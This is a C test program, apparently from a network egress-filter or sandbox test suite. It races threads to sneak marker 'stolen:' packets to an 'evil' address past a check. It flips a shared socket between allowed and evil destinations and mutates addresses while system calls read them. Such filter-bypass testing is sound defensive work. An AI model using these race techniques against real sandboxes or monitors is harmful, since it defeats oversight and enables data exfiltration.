// SPDX-License-Identifier: BSD-2-Clause
/*
 * race GOOD EVIL PORT ROUND: for a second, threads that spoil each other's system calls, so that one of
 * them might get past a check that another one passed: one socket that is connected to the allowed and to
 * the evil address at once, with AF_UNSPEC in between, and calls whose address changes while they run.
 * What goes out begins as attacker.py's loot() does.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define LOOT_LENGTH 80
#define PAUSE_US    100 /* between two tries: without a gate somebody must note all that arrives */

static struct sockaddr_in good, evil;
static struct sockaddr_in moving; /* good and evil by turns, while system calls read it */
static const char *round_name;
static volatile bool over;

/* struct duel - a socket that threads fight over, and under which tag what they send is known */
struct duel {
	int sock;
	const char *tag;
};

static void send_loot(int sock, const char *tag, const struct sockaddr_in *to)
{
	char data[LOOT_LENGTH];
	int size = snprintf(data, sizeof(data), "stolen:%s:%s;", tag, round_name);

	if (to)
		sendto(sock, data, size, MSG_DONTWAIT | MSG_NOSIGNAL, (const struct sockaddr *)to,
		       sizeof(*to));
	else
		send(sock, data, size, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void connect_to(int sock, const struct sockaddr_in *to)
{
	(void)!connect(sock, (const struct sockaddr *)to, sizeof(*to));
}

static void *connect_by_turns(void *arg)
{
	const struct sockaddr_in nobody = {.sin_family = AF_UNSPEC};
	struct duel *duel = arg;

	while (!over) {
		connect_to(duel->sock, &good);
		connect_to(duel->sock, &nobody);
	}
	return NULL;
}

static void *connect_to_evil_and_send(void *arg)
{
	struct duel *duel = arg;

	while (!over) {
		connect_to(duel->sock, &evil);
		send_loot(duel->sock, duel->tag, NULL);
		usleep(PAUSE_US);
	}
	return NULL;
}

/*
 * Only the address changes: any mixture of the two is one of them. Once in each turn of the loop, for an
 * emulated processor is interrupted only between them.
 */
static void *move_address(void *arg)
{
	const struct sockaddr_in *to = &good;

	(void)arg;
	while (!over) {
		to = to == &good ? &evil : &good;
		__atomic_store_n(&moving.sin_addr.s_addr, to->sin_addr.s_addr, __ATOMIC_RELAXED);
	}
	return NULL;
}

static void *use_moving_address(void *arg)
{
	(void)arg;
	while (!over) {
		int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		int tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

		for (int i = 0; i < 8; i++)
			send_loot(udp, "moved", &moving);
		connect_to(udp, &moving);
		send_loot(udp, "connected", NULL);
		connect_to(tcp, &moving); /* its SYN is enough */
		usleep(PAUSE_US);
		close(udp);
		close(tcp);
	}
	return NULL;
}

static int address_of(const char *text, const char *port, struct sockaddr_in *ret)
{
	ret->sin_family = AF_INET;
	ret->sin_port = htons(atoi(port));
	return inet_pton(AF_INET, text, &ret->sin_addr);
}

int main(int argc, char **argv)
{
	struct duel tcp = {socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0), "tcp"};
	struct duel udp = {socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), "udp"};
	const struct {
		void *(*run)(void *);
		void *arg;
	} fighters[] = {
		{connect_by_turns, &tcp}, {connect_to_evil_and_send, &tcp},
		{connect_by_turns, &udp}, {connect_to_evil_and_send, &udp},
		{move_address, NULL},     {use_moving_address, NULL},
	};
	pthread_t threads[sizeof(fighters) / sizeof(*fighters)];

	if (argc != 5 || address_of(argv[1], argv[3], &good) != 1 ||
	    address_of(argv[2], argv[3], &evil) != 1)
		return 2;
	round_name = argv[4];
	moving = good;

	for (size_t i = 0; i < sizeof(fighters) / sizeof(*fighters); i++)
		pthread_create(&threads[i], NULL, fighters[i].run, fighters[i].arg);
	sleep(1);
	over = true;
	for (size_t i = 0; i < sizeof(fighters) / sizeof(*fighters); i++)
		pthread_join(threads[i], NULL);
	return 0;
}
